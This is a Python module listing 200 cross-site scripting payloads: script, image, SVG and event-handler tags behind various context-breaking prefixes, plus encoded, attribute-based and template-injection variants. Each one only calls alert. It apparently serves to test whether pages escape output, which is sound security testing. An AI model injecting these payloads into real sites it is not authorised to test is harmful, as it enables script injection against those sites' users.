"""Two hundred strings that would run a script where a page forgot to escape them: 24 elements behind 8 ways out of the
place they stand in, and 8 that need no element. Each of them calls alert."""

from __future__ import annotations

ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<embed src=data:text/html,x onload=alert(1)>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<style onload=alert(1)>b{}</style>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
)
WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</pre>", "-->", "</mark></option></select></svg>")
WITHOUT_ELEMENT = (
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "{{ self.__init__.__globals__ }}${alert(1)}",
)
PAYLOADS = (*(way + element for way in WAYS_OUT for element in ELEMENTS), *WITHOUT_ELEMENT)
